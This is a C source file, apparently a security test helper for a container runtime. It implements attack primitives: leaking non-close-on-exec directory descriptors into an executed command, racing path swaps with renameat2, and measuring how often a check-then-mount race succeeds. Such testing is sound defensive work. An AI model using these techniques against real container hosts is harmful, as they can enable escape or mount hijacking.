/*
 * attack.c - what an attacker, or a careless caller, does outside of the container.
 *
 *   attack leak DIR COUNT HIGH COMMAND...  run it with COUNT descriptors of DIR, and one number
 * HIGH attack swap A B                        exchange two names as fast as it goes, until killed
 *   attack naive VICTIM PATH SECONDS       mount on PATH as a runtime would that checks a path, and
 *                                          then uses it again, until VICTIM gets the mount: after
 *                                          how many tries did it? 0: never
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <time.h>
#include <unistd.h>

enum { EXCHANGE = 2 /* RENAME_EXCHANGE */, TMPFS = 0x01021994 };

static int fail(const char *what)
{
	fprintf(stderr, "attack: %s: %s\n", what, strerrorname_np(errno));
	return 1;
}

static int leak(const char *directory, int count, int high, char **command)
{
	struct rlimit limit = { (rlim_t)high + 1, (rlim_t)high + 1 };
	int fd = -1;

	if (setrlimit(RLIMIT_NOFILE, &limit) < 0)
		return fail("setrlimit");
	for (int i = 0; i < count; i++) {
		fd = open(directory, O_PATH | O_DIRECTORY); /* not O_CLOEXEC: that is the point */
		if (fd < 0)
			return fail("open");
	}
	if (dup2(fd, high) < 0)
		return fail("dup2");
	execvp(command[0], command);
	return fail(command[0]);
}

static int swap(const char *a, const char *b)
{
	for (;;) {
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, EXCHANGE) < 0)
			return fail("renameat2");
	}
}

/* Look whether a link is in the way, then hand the same string to mount(2). */
static int naive_mount(const char *path)
{
	struct stat st;

	if (lstat(path, &st) < 0 || !S_ISDIR(st.st_mode))
		return -1;
	return mount("attack", path, "tmpfs", 0, NULL);
}

static int naive(const char *victim, const char *path, int seconds)
{
	time_t end = time(NULL) + seconds;
	unsigned long tries = 0;
	struct statfs fs;

	while (time(NULL) <= end) {
		tries++;
		if (naive_mount(path) < 0)
			continue;
		if (statfs(victim, &fs) == 0 && fs.f_type == TMPFS) {
			printf("%lu\n", tries);
			return 0;
		}
		while (umount2(path, MNT_DETACH) == 0) {
		}
	}
	puts("0");
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "leak") == 0 && argc > 5)
		return leak(argv[2], atoi(argv[3]), atoi(argv[4]), argv + 5);
	if (strcmp(what, "swap") == 0 && argc == 4)
		return swap(argv[2], argv[3]);
	if (strcmp(what, "naive") == 0 && argc == 5)
		return naive(argv[2], argv[3], atoi(argv[4]));
	fprintf(stderr, "attack: what?\n");
	return 2;
}
